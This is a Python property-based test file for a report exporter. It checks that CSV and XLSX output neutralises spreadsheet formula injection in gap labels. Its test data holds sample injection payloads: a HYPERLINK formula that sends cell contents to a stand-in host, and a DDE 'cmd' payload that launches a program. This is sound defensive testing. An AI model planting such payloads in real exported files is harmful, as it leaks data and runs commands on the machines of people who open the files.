"""The programme report's files: a label a spreadsheet would run as a formula is written as text (CSV and XLSX)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from matching.reports.export import to_csv, to_xlsx
from matching.schemas.reports import Accuracy, CountTable, GapCount, ProgrammeReport

# What spreadsheets read as the start of a formula (OWASP, CSV injection), fullwidth forms included.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
formulas = st.builds(lambda start, rest: start + rest, st.sampled_from(FORMULA_STARTS),
                     st.sampled_from(['HYPERLINK("https://x.example/?d="&A1,"clic")', "1+1", "cmd|' /C calc'!A0",
                                      "SUM(A1:A9)", "2", ""]))


def report(labels: list[str]) -> ProgrammeReport:
    table = CountTable(rows=["total"], columns=["participants"], cells=[[0]])
    return ProgrammeReport(
        organisation_id="org_x", period_from=date(2026, 1, 1), period_to=date(2026, 3, 31),
        generated_at=datetime(2026, 4, 1, tzinfo=UTC), threshold=5, participants_by_phase=table, phases=[],
        funnel={}, median_days_to_first_interview=None, outcomes=table,
        gaps=[GapCount(concept_id=label, label=label, participants=7) for label in labels],
        accuracy=Accuracy(period_from=date(2026, 1, 1), period_to=date(2026, 3, 31), ks=[5], figures=[]),
        profiles=[],
    )


@settings(max_examples=30, deadline=None)
@given(labels=st.lists(formulas, min_size=1, max_size=4, unique=True))
def test_a_label_starting_like_a_formula_is_text_in_both_files(labels):
    rows = list(csv.reader(io.StringIO(to_csv(report(labels)))))
    gaps = [row for row in rows if row[0] == "gaps"]
    assert [row[1] for row in gaps] == ["'" + label for label in labels]
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row)

    book = load_workbook(io.BytesIO(to_xlsx(report(labels))))
    cells = [cell for row in book["Gaps"].iter_rows(min_row=2) for cell in row]
    assert not any(cell.data_type == "f" for sheet in book for row in sheet.iter_rows() for cell in row)
    # The label itself, read as text (the XML of a workbook stores a carriage return as a line feed).
    assert [c.value for c in cells if c.column == 1] == [label.replace("\r", "\n") for label in labels]
